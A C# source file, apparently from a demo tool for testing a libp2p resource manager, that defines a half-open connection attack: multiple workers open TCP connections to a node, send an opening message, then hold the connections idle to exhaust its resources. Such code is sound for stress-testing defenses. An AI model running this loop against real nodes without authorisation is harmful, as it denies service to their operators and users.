using System.Net.Sockets;
using Rcmgr.Libp2p.Multiaddr;

namespace Rcmgr.Tool.Demo.Attacks;

/// <summary>Opens TCP connections, says at most the first word, and then nothing.</summary>
internal sealed class HalfOpenConnections(string kind, ReadOnlyMemory<byte> firstWords, int workers) : IAttack
{
    public string Kind => kind;

    public Task RunAsync(Multiaddress target, AttackCount count, CancellationToken cancellationToken) =>
        AttackLoop.RunAsync(workers, token => ConnectAsync(target, count, token), cancellationToken);

    private async Task ConnectAsync(Multiaddress target, AttackCount count, CancellationToken cancellationToken)
    {
        count.Attempt();
        await using NetworkStream stream = await BarePeer.ConnectAsync(target, cancellationToken);
        await stream.WriteAsync(firstWords, cancellationToken);
        byte[] answer = new byte[256];
        bool answered = false;
        while (await stream.ReadAsync(answer, cancellationToken) > 0)
        {
            if (!answered)
                count.Admit();
            answered = true;
        }

        throw new IOException("The node closed the connection.");
    }
}
